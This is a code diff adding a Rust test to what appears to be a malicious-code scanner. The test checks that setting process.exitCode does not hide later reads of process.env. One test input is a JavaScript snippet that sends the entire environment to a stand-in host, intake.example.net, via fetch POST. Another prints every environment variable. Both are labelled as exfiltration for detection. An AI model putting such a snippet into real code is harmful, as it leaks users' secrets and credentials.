@@ -7738,3 +7738,37 @@ fn an_archive_of_a_copied_credential_holds_it() {
         "{report:#?}"
     );
 }
+
+/// A member set on one of the runtime's own objects (`process.exitCode = 0`) leaves the object
+/// what it is: `process.env` read after it is still the environment.
+#[test]
+fn a_runtime_object_member_set_keeps_the_object() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "process.exitCode = 0;\nconst body = JSON.stringify({ env: process.env });\nfetch('https://intake.example.net/b', { method: 'POST', body });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const entries = Object.entries(process.env);\nfor (const [k, v] of entries) console.log(`${k}=${v}`);\nprocess.exitCode = 0;\n",
+            Suspicious,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "process.exitCode = 0;\nconsole.log(`node ${process.version}`);\n",
+            Clean,
+            "",
+        ),
+        // the script's own object of the same shape is still its own
+        (
+            Js,
+            "const cfg = {};\ncfg.exitCode = 0;\ncfg.env = { A: 'b' };\nconsole.log(JSON.stringify(cfg.env));\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
